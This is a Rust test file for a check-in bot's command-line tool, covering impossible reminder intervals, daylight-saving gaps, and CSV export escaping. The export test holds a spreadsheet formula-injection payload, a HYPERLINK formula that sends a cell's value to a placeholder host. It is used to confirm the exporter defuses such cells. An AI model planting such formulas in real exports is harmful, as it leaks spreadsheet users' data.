//! What real operators do to the binary: schedules that cannot work, check-ins
//! that fall into a DST gap, and exports opened in a spreadsheet.

use std::path::Path;

use chrono::{Duration, Utc};
use serde_json::Value;
use trellis::domain::ReplySource;
use trellis::domain::schedule::Schedule;
use trellis_testkit::typed::{ALICE, CHANNEL};
use trellis_testkit::{Harness, draft};

use crate::cli::{text, trellis};

/// A config file with one cohort of `schedule`, `timezone` and `reminder_after`.
fn config(dir: &Path, schedule: &str, timezone: &str, reminder_after: &str) -> String {
    let path = dir.join("trellis.toml");
    std::fs::write(
        &path,
        format!(
            "[[cohort]]\nname = \"c\"\nguild_id = 111111111111111111\nchannel_id = 222222222222222222\n\
             mentor_role_id = 333333333333333333\nschedule = \"{schedule}\"\ntimezone = \"{timezone}\"\n\
             reminder_after = \"{reminder_after}\"\n"
        ),
    )
    .unwrap();
    path.to_str().unwrap().to_string()
}

#[test]
fn a_reminder_that_could_never_be_sent_is_a_config_error_naming_the_key() {
    let _suite = crate::suite(module_path!());
    let dir = tempfile::tempdir().unwrap();
    for (schedule, timezone, reminder_after, gap) in [
        ("0 0 9 * * *", "UTC", "48h", "1d"),
        ("0 0 9 * * Mon", "UTC", "7d", "7d"),
        ("0 0 9 * * Mon,Thu", "UTC", "4d", "3d"),
        ("0 */10 * * * *", "UTC", "10m", "10m"),
        // Local time: the spring-forward day is 23 hours, that week 167.
        ("0 0 9 * * *", "Europe/Berlin", "24h", "23h"),
        ("0 0 9 * * Mon", "Europe/Berlin", "7d", "167h"),
    ] {
        let path = config(dir.path(), schedule, timezone, reminder_after);
        for command in ["check-config", "run"] {
            let out = trellis(dir.path(), &[command, "--config", &path], &[("DISCORD_TOKEN", "Bot x.y.z")]);
            let stderr = text(&out.stderr);
            assert_eq!(out.status.code(), Some(2), "{command} {schedule} {reminder_after}: {stderr}");
            assert!(
                stderr.contains("trellis.toml")
                    && stderr.contains("cohort[0].reminder_after")
                    && stderr.contains(&format!("as little as {gap} apart")),
                "{command} {schedule} {reminder_after}: {stderr}"
            );
            assert!(!dir.path().join("data").exists(), "{command} touched no database");
        }
    }
    // Shorter than the shortest gap is fine.
    let path = config(dir.path(), "0 0 9 * * *", "Europe/Berlin", "22h");
    let out = trellis(dir.path(), &["check-config", "--config", &path], &[]);
    assert!(out.status.success(), "{}", text(&out.stderr));
}

#[test]
fn check_config_names_the_check_ins_a_spring_forward_gap_moves() {
    let _suite = crate::suite(module_path!());
    let dir = tempfile::tempdir().unwrap();
    // 02:30 every day in Berlin: the night the clocks jump 02:00 → 03:00 has no 02:30.
    let path = config(dir.path(), "0 30 2 * * *", "Europe/Berlin", "12h");
    let out = trellis(dir.path(), &["check-config", "--config", &path], &[]);
    let stdout = text(&out.stdout);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let schedule = Schedule::parse("0 30 2 * * *", "Europe/Berlin").unwrap();
    let moved = schedule.moved_by_dst(Utc::now(), Duration::days(366));
    assert_eq!(moved.len(), 1, "one spring-forward night a year: {moved:?}");
    let (missing, at) = &moved[0];
    let note = format!(
        "note: {} does not exist in Europe/Berlin (the clocks spring forward); that check-in is posted at {}",
        missing.format("%a %Y-%m-%d %H:%M"),
        at.format("%H:%M %Z")
    );
    assert!(stdout.contains(&note), "{note}\n{stdout}");
    assert!(note.contains("02:30") && note.contains("03:00 CEST"), "{note}");
}

#[tokio::test]
async fn csv_cells_that_start_like_a_formula_open_as_text_and_json_keeps_them() {
    let _suite = crate::suite(module_path!());
    const FORMULA: &str = "=HYPERLINK(\"https://example.invalid/?q=\"&K2,\"details\")";
    const EVIDENCE: &str = "-35% p95 latency";
    let schedule = Schedule::parse("0 0 9 * * Mon", "UTC").unwrap();
    let latest = schedule.latest_at_or_before(Utc::now()).unwrap();
    let h = Harness::new(latest - Duration::hours(1)).await;
    let cohort = h.engine.setup_cohort(draft("staff-path", CHANNEL, "0 0 9 * * Mon", "UTC")).await.unwrap();
    h.set(latest);
    h.tick().await;
    let open = h.engine.open_checkin(&cohort).await.unwrap();
    h.engine.answer(&open, ALICE, FORMULA, "", ReplySource::Modal).await.unwrap();
    h.engine.record_impact(&cohort, ALICE, "+1 deploy a day", EVIDENCE, "@here the on-call", "").await.unwrap();

    let dir = tempfile::tempdir().unwrap();
    let export = |format: &str| {
        let out = trellis(
            dir.path(),
            &["export", "--cohort", "staff-path", "--format", format],
            &[("DATABASE_URL", h.db.url.as_str())],
        );
        assert!(out.status.success(), "{}", text(&out.stderr));
        text(&out.stdout)
    };
    let csv = export("csv");
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let header = reader.headers().unwrap().clone();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let answer_row = rows.iter().find(|r| &r[column("kind")] == "checkin").unwrap();
    assert_eq!(&answer_row[column("answer")], format!("'{FORMULA}"));
    let impact_row = rows.iter().find(|r| &r[column("kind")] == "impact").unwrap();
    assert_eq!(&impact_row[column("evidence")], format!("'{EVIDENCE}"));
    assert_eq!(&impact_row[column("what_changed")], "'+1 deploy a day");
    assert_eq!(&impact_row[column("who_benefited")], "'@here the on-call");
    // No cell of the file starts a formula.
    for row in &rows {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
        }
    }

    let json: Value = serde_json::from_str(&export("json")).unwrap();
    let records = json.as_array().unwrap();
    assert!(records.iter().any(|r| r["answer"] == FORMULA), "JSON keeps the text as written");
    assert!(records.iter().any(|r| r["evidence"] == EVIDENCE));

    let out = trellis(
        dir.path(),
        &["export", "--cohort", "staff-path", "--format", "markdown", "--member", &ALICE.get().to_string()],
        &[("DATABASE_URL", h.db.url.as_str())],
    );
    let markdown = text(&out.stdout);
    assert!(markdown.contains(FORMULA) && markdown.contains(EVIDENCE), "{markdown}");
}
